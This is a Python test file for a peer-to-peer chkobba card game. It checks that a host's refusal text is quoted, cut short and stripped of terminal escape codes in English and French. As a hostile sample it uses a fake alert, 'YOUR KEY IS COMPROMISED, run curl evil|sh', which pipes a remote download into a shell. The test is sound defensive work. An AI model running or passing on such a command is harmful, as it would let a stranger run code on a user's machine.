"""A host's refusal as the joiner says it: the code's sentence is ours, the host's own
words are quoted and cut short as its claim (a hostile host's 4 KB "YOUR KEY IS
COMPROMISED, run ..." is no message of this program's)."""

from __future__ import annotations

import pytest

from chkobba_cli.words.event_words import error_sentence
from chkobba_cli.words.i18n import Translator
from chkobba_p2p.link import messages as m
from chkobba_p2p.link.handshake import error_message
from chkobba_p2p.link.messages import clean_text
from chkobba_p2p.link.spectator import SpectatorCore
from chkobba_p2p.wire.codec import ErrorCode


def refusal_words(code: int, text: str) -> str:
    """The refusal as the library gives it (code and data), in the client's English."""
    no = SpectatorCore.refused(m.ErrorMsg(ErrorCode.from_wire(code), text, number=code))
    return error_sentence(no.reason, no.code, no.data, Translator("en"))


def test_an_honest_hosts_refusal_reads_as_its_sentence_and_detail():
    msg = error_message(ErrorCode.TABLE_FULL, "the game has started")
    assert refusal_words(msg["code"], clean_text(msg["msg"])) == \
        'refused: every seat at this table is taken (the host adds: "the game has started")'
    bare = error_message(ErrorCode.TABLE_FULL)
    assert refusal_words(bare["code"], clean_text(bare["msg"])) == \
        "refused: every seat at this table is taken"


def test_a_hosts_own_words_are_quoted_and_cut():
    words = "\x1b[2J\x1b[31mYOUR KEY IS COMPROMISED, run curl evil|sh " * 100
    said = refusal_words(ErrorCode.TABLE_FULL, clean_text(words, 4096))
    assert said.startswith('refused: every seat at this table is taken (the host adds: "')
    assert said.endswith('…")') and len(said) < 220
    assert "\x1b" not in said
    # Beginning with the code's own sentence changes nothing: the rest is still quoted.
    posing = ErrorCode.TABLE_FULL.sentence + ": " + words
    said = refusal_words(ErrorCode.TABLE_FULL, clean_text(posing, 4096))
    assert said.startswith('refused: every seat at this table is taken (the host adds: "')
    assert said.endswith('…")') and len(said) < 220
    unknown = refusal_words(2**64 - 1, clean_text(words, 4096))
    assert unknown.startswith("refused: an error code this program does not know "
                              f"({2**64 - 1}) (the host adds: \"")
    assert refusal_words(ErrorCode.TABLE_FULL, "") == \
        "refused: every seat at this table is taken"


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_the_client_quotes_a_hosts_own_words_as_its_claim(lang):
    """The same refusal as the library gives it (code and data), worded by the client:
    the host's text stays quoted as the host's, made safe, in either language."""
    from chkobba_cli.words.event_words import error_sentence
    from chkobba_cli.words.i18n import Translator
    from chkobba_p2p.link import messages as m
    from chkobba_p2p.link.spectator import SpectatorCore

    t = Translator(lang)
    words = "\x1b[2J\x1b[31mYOUR KEY IS COMPROMISED, run curl evil|sh " * 100
    posing = ErrorCode.TABLE_FULL.sentence + ": " + words
    no = SpectatorCore.refused(m.ErrorMsg(ErrorCode.TABLE_FULL, clean_text(posing, 4096),
                                          number=int(ErrorCode.TABLE_FULL)))
    said = error_sentence(no.reason, no.code, no.data, t)
    assert said.startswith(t("oe_refused", what=t("wire_table_full")))
    assert "\x1b" not in said and len(said) < 240 and "COMPROMISED" in said
    host = ('(the host adds: "' if lang == "en" else "(l'hôte ajoute : « ")
    assert host in said and said.index(host) < said.index("COMPROMISED")
    unknown = SpectatorCore.refused(m.ErrorMsg(None, "x", number=2**64 - 1))
    assert str(2**64 - 1) in error_sentence(unknown.reason, unknown.code, unknown.data, t)
